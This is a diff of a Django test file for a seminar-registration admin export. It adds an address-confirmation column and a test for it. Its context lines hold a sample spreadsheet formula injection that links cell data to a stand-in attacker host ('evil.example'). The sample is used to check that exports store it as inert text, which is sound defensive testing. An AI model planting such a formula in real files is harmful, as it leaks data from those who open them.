@@ -16,8 +16,8 @@ pytestmark = pytest.mark.django_db
 EXPORT = "admin:newsletter_registration_export"
 CSV, XLSX = "0", "1"
 HOSTILE = '=HYPERLINK("https://evil.example/?d="&A3,"Klicka")'
-COLUMNS = ["seminar", "name", "email", "organisation", "language", "status", "created",
-           "cancelled_at", "promoted_at"]
+COLUMNS = ["seminar", "name", "email", "organisation", "language", "status",
+           "address_confirmed_at", "created", "cancelled_at", "promoted_at"]
 
 
 def form(file_format):
@@ -67,6 +67,23 @@ def test_the_attendee_list_as_xlsx_holds_names_as_text(client, seminars):
     assert anna["name"].value == HOSTILE
     assert anna["organisation"].value == "+46 ABF"
     assert rows[2]["status"].value == "på väntelistan"
+
+
+def test_the_attendee_list_tells_who_confirmed_their_address(client, seminars):
+    """A registration from the public form that its owner has not confirmed may be a
+    made-up address: the list shows it as such, in CSV and XLSX alike."""
+    vår, _ = seminars
+    RegistrationFactory(seminar=vår, name="Made Up", email="made-up@example.org",
+                        address_confirmed_at=None)
+    client.force_login(nina())
+    query = f"?seminar__id__exact={vår.pk}&status__exact=confirmed"
+
+    rows = {row["email"]: row for row in csv_rows(export(client, query, CSV))}
+    assert rows["made-up@example.org"]["address_confirmed_at"] == ""
+    assert rows["bertil@example.org"]["address_confirmed_at"][:4].isdigit()
+    cells = {row["email"].value: row for row in xlsx_rows(export(client, query, XLSX))}
+    assert cells["made-up@example.org"]["address_confirmed_at"].value in (None, "")
+    assert cells["bertil@example.org"]["address_confirmed_at"].value
 
 
 def test_a_content_editor_gets_403_and_no_names(client, seminars):
